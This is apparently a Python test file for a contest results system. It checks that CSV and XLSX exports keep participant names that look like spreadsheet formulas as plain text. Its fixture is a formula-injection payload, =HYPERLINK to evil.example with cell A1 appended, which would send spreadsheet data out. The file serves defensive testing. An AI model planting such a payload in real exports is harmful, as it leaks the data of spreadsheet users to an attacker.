"""Item 6: a participant named like a formula stays text in CSV and XLSX exports."""

from __future__ import annotations

import io
from collections.abc import AsyncIterator
from typing import Any

import pytest
from openpyxl import load_workbook

from contest.domain import export_rows as xr
from contest.results import exports

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.mark.parametrize("raw, shown", [
    (EVIL, "'" + EVIL),
    ("+84912345678", "'+84912345678"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Nguyễn Thị Bích Ngọc", "Nguyễn Thị Bích Ngọc"),
    ("a=b", "a=b"),
    ("", ""),
])
def test_csv_cells_that_would_be_formulas_are_neutralised(raw: str, shown: str) -> None:
    assert xr.csv_cell(raw, "text") == shown


async def _rows() -> AsyncIterator[tuple[Any, ...]]:
    yield (EVIL, 9.5)
    yield ("Trần Văn Bình", 7.0)


async def test_xlsx_writes_a_formula_like_name_as_text() -> None:
    columns = (xr.Column("Họ và tên"), xr.Column("Điểm", "decimal"))
    body = b"".join([chunk async for chunk in exports.xlsx_bytes(columns, _rows(), "thu")])
    ws = load_workbook(io.BytesIO(body)).active
    assert ws is not None
    cell = ws["A2"]
    assert cell.value == EVIL and cell.data_type == "s"
    assert ws["B2"].value == 9.5


async def test_csv_export_stream_neutralises_names() -> None:
    columns = (xr.Column("Họ và tên"), xr.Column("Điểm", "decimal"))
    body = b"".join([chunk async for chunk in exports.csv_bytes(columns, _rows())])
    assert "'=HYPERLINK" in body.decode("utf-8-sig")
